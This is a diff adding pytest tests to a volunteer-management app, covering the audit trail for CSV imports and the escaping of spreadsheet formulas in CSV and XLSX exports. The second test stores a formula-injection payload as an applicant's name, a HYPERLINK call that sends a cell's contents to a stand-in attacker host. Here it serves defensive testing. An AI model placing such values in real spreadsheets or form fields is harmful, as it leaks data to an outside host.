@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import openpyxl
 
 from conftest import World
-from tandem.core.models import ImportBatch
+from tandem.core.models import AuditEvent, ImportBatch, Person
 from tandem.onboarding.models import Volunteer
 from tandem.onboarding.tests.helpers import volunteer
 
@@ -58,3 +59,38 @@ def test_valid_file_creates_and_updates_then_export_round_trips(world: World) ->
     assert sheet.max_row == 3
     template = client.get("/o/zuid/p/moz/volunteers/import/template/?format=csv")
     assert template.content.decode("utf-8-sig").strip() == HEADER.strip()
+
+
+def test_every_imported_change_is_in_the_audit_trail(world: World) -> None:
+    sam = volunteer(world, email="sam@example.org")
+    Person.objects.filter(pk=sam.person.pk).update(phone="010 111 2222")
+    client = world.client_for("coordinator")
+    text = HEADER + (
+        "Samira,Jansen,sam@example.org,06 1234 5678,,Rotterdam,nl,,,applied\n"
+        "Anna,Smit,anna@example.org,,3073,Rotterdam,nl,,,applied\n"
+    )
+    client.post(URL, {"file": _file(text, "v.csv")})
+    assert client.post(URL, {"batch": ImportBatch.objects.get().pk}).status_code == 302
+    coordinator = world.users["coordinator"]
+    person_change = AuditEvent.objects.get(subject=f"person:{sam.person.pk}", action="updated")
+    assert person_change.actor == coordinator
+    assert person_change.changes == {"given_name": ["Sam", "Samira"],
+                                     "phone": ["010 111 2222", "06 1234 5678"]}
+    volunteer_change = AuditEvent.objects.get(subject=f"volunteer:{sam.pk}").changes
+    assert volunteer_change["languages"] == [[], ["nl"]] and "latitude" in volunteer_change  # geocoded
+    anna = Volunteer.objects.get(person__email="anna@example.org")
+    created = AuditEvent.objects.filter(person=anna.person, action="created")
+    assert {e.subject for e in created} == {f"person:{anna.person.pk}", f"volunteer:{anna.pk}"}
+    assert all(e.actor == coordinator for e in created)
+
+
+def test_an_applicant_named_like_a_formula_is_exported_as_text(world: World) -> None:
+    name = '=HYPERLINK("http://evil.example/?"&C2,"Open")'
+    Person.objects.filter(pk=volunteer(world, email="x@example.org").person.pk).update(
+        given_name=name, family_name="@SUM(1+1)", phone="+31 6 1234")
+    client = world.client_for("coordinator")
+    export = client.get("/o/zuid/p/moz/volunteers/export/?format=csv")
+    row = next(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
+    assert (row["given_name"], row["family_name"], row["phone"]) == ("'" + name, "'@SUM(1+1)", "'+31 6 1234")
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/o/zuid/p/moz/volunteers/export/?format=xlsx").content)).active
+    assert sheet["A2"].value == name and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
